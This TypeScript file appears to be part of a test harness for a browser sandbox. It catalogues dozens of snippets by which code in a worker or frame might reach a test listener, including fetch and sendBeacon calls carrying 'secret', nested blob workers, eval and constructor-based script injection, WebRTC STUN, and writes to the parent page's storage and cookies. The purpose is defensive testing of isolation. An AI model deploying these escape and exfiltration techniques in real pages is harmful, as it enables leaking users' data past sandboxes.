/**
 * Ways to say something to somebody outside, each the body of an async function that knows `url` (a listener's), `home` (the page's
 * host), `udp` (a listener's port) and `blob` (makes an address of a text). What they return does not matter: the listeners tell.
 */
type Ways = Readonly<Record<string, string>>

const settled = (make: string, good: string): string =>
  `return new Promise((yes, no) => { const it = ${make}; it.${good} = yes; it.onerror = no })`

/** From a worker. */
export const waysOutOfWorker: Ways = {
  fetch: `return fetch(url)`,
  'fetch without an answer': `return fetch(url, { mode: 'no-cors', keepalive: true })`,
  'fetch of the page’s host': `return fetch(home, { credentials: 'include' })`,
  'fetch with the text in a header': `return fetch(url, { headers: { 'x-state': 'secret' } })`,
  'fetch with a streamed body': `return fetch(url, { method: 'POST', duplex: 'half', body: new ReadableStream({ start(c) { c.enqueue(new Uint8Array(9)); c.close() } }) })`,
  'fetch by a name that is to be resolved': `return fetch(url.replace('127.0.0.1', 'localhost'))`,
  'fetch of another scheme': `return fetch(url.replace('http', 'ftp'))`,
  'fetch that a Request carries': `return fetch(new Request(url, { cache: 'reload', redirect: 'manual' }))`,
  'fetch later': `return new Promise((yes, no) => setTimeout(() => fetch(url).then(yes, no), 10))`,
  'fetch from the prototype': `return Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, url)`,
  fetchLater: `return fetchLater(url, { activateAfter: 0 })`,
  XMLHttpRequest: `return new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', url); x.onload = yes; x.onerror = no; x.send() })`,
  'XMLHttpRequest that waits': `const x = new XMLHttpRequest(); x.open('POST', url, false); x.send('secret')`,
  WebSocket: settled(`new WebSocket(url.replace('http', 'ws'))`, 'onopen'),
  'WebSocket to the page’s host': settled(`new WebSocket(home.replace('http', 'ws'))`, 'onopen'),
  WebSocketStream: `return new WebSocketStream(url.replace('http', 'ws')).opened`,
  EventSource: settled(`new EventSource(url)`, 'onopen'),
  WebTransport: `return new WebTransport('https://127.0.0.1:' + udp + '/').ready`,
  'WebTransport with a known certificate': `return new WebTransport('https://127.0.0.1:' + udp + '/', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready`,
  RTCPeerConnection: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] }); p.createDataChannel('x'); return p.setLocalDescription()`,
  sendBeacon: `return navigator.sendBeacon(url, 'secret')`,
  'sendBeacon from the prototype': `return Object.getPrototypeOf(navigator).sendBeacon.call(navigator, url)`,
  importScripts: `importScripts(url)`,
  'importScripts of the page’s host': `importScripts(home)`,
  import: `return import(url)`,
  'import of the page’s host': `return import(home)`,
  'import from a blob of its own': `return import(blob('import ' + JSON.stringify(url)))`,
  'import with a type': `return import(url, { with: { type: 'json' } })`,
  'source map of a blob': `importScripts(blob('1\\n//# sourceMappingURL=' + url))`,
  'source map of a module': `return import(blob('export default 1\\n//# sourceMappingURL=' + url))`,
  'worker from an address': settled(`new Worker(url)`, 'onmessage'),
  'worker within, which fetches': `const w = new Worker(blob('fetch(' + JSON.stringify(url) + ').finally(() => postMessage(1))')); return new Promise((yes) => { w.onmessage = yes })`,
  'worker within, as a module that imports': settled(
    `new Worker(blob('import ' + JSON.stringify(url)), { type: 'module' })`,
    'onmessage',
  ),
  'worker within a worker within': `const inner = 'importScripts(' + JSON.stringify(url) + ')'; const w = new Worker(blob('new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '])))')); return new Promise((yes) => setTimeout(yes, 200))`,
  SharedWorker: `return new SharedWorker(url)`,
  'service worker': `return navigator.serviceWorker.register(url)`,
  'font that is loaded': `return new FontFace('x', 'url(' + url + ')').load()`,
  'font that is added': `fonts.add(new FontFace('x', 'url(' + url + ')')); return fonts.load('1px x')`,
  'image on a canvas': `return createImageBitmap(await (await fetch(url)).blob())`,
  'canvas with an image for a style': `new OffscreenCanvas(1, 1).getContext('2d').filter = 'url(' + url + '#x)'`,
  'background fetch': `return registration.backgroundFetch.fetch('x', [url])`,
  notification: `return new Notification('x', { icon: url })`,
  cache: `return (await caches.open('x')).add(url)`,
  'report of a broken rule': `return new ReportingObserver(() => {}).observe()`,
  'stack frame with an address': `const e = new Error(); e.stack = 'at ' + url; reportError(e)`,
  'console with an address': `console.log('%c ', 'background: url(' + url + ')')`,
  'policy that is broken on purpose': `return fetch(url + '?report-uri=' + url)`,
  'script by eval': `(0, eval)('fetch(' + JSON.stringify(url) + ')')`,
  'script by Function': `new Function('fetch(' + JSON.stringify(url) + ')')()`,
  'script by a constructor of a constructor': `(() => {}).constructor.constructor('fetch(' + JSON.stringify(url) + ')')()`,
  'script by an async function’s constructor': `return (async () => {}).constructor('return fetch(' + JSON.stringify(url) + ')')()`,
  'script by a timer’s text': `setTimeout('fetch(' + JSON.stringify(url) + ')', 0)`,
  'WebAssembly by an address': `return WebAssembly.compileStreaming(fetch(url))`,
  'file system': `return (await navigator.storage.getDirectory()).getFileHandle('x', { create: true })`,
  'serial port': `return navigator.serial.getPorts()`,
  'database that tells another window': `return new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no })`,
}

/** From the document of the frame, where no projection ever runs. */
export const waysOutOfFrame: Ways = {
  image: `const i = new Image(); i.src = url`,
  'image by HTML': `document.body.innerHTML = '<img src="' + url + '">'`,
  'script by HTML': `const s = document.createElement('script'); s.src = url; document.body.append(s)`,
  'style sheet': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l)`,
  'style with an address': `document.body.style.background = 'url(' + url + ')'`,
  prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url; document.head.append(l)`,
  preload: `const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = url; document.head.append(l)`,
  preconnect: `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = url; document.head.append(l)`,
  'dns-prefetch': `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = url; document.head.append(l)`,
  'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] }); document.head.append(s)`,
  'refresh by a meta element': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + url; document.head.append(m)`,
  frame: `const f = document.createElement('iframe'); f.src = url; document.body.append(f)`,
  'frame with a document of its own': `const f = document.createElement('iframe'); f.srcdoc = '<script>fetch(' + JSON.stringify(url) + ')</script>'; document.body.append(f)`,
  'frame that lends its constructors': `const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] }).createDataChannel('x')`,
  object: `const o = document.createElement('object'); o.data = url; document.body.append(o)`,
  video: `const v = document.createElement('video'); v.src = url; document.body.append(v)`,
  form: `const f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f); f.submit()`,
  'link that is clicked': `const a = document.createElement('a'); a.href = url; a.ping = url; document.body.append(a); a.click()`,
  popup: `window.open(url)`,
  'the page’s address': `top.location = url`,
  beacon: `navigator.sendBeacon(url, 'secret')`,
  'fetch in the frame': `return fetch(url, { mode: 'no-cors' })`,
  'WebSocket in the frame': settled(`new WebSocket(url.replace('http', 'ws'))`, 'onopen'),
  worklet: `return new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url)`,
  STUN: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] }); p.createDataChannel('x'); return p.setLocalDescription()`,
  'the page’s document': `parent.document.title = 'taken'`,
  'storage of the page': `parent.localStorage.setItem('x', 'taken')`,
  cookies: `document.cookie = 'x=taken'`,
}

/** A classic script, or a part of one, that tries every way and then calls `done` with the names of those that raised nothing. */
export function attempting(ways: Ways, { url, home, udp }: { url: string; home: string; udp: number }): string {
  const tried = Object.entries(ways).map(
    ([name, code]) =>
      `[${JSON.stringify(name)}, async (url, home) => { ${code} }, ${JSON.stringify(`${url}/${encodeURIComponent(name)}`)}, ${JSON.stringify(`${home}/escape/${encodeURIComponent(name)}`)}]`,
  )
  return `const udp = ${udp}
    const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
    const within = (promise) => new Promise((yes, no) => { promise.then(yes, no); setTimeout(no, 1500, new Error('late')) })
    const attempts = [${tried.join(',\n')}]
    Promise.all(attempts.map(async ([name, way, url, home]) => {
      try { await within(way(url, home)); return name } catch { return undefined }
    })).then((names) => done(names.filter((name) => name !== undefined)))`
}
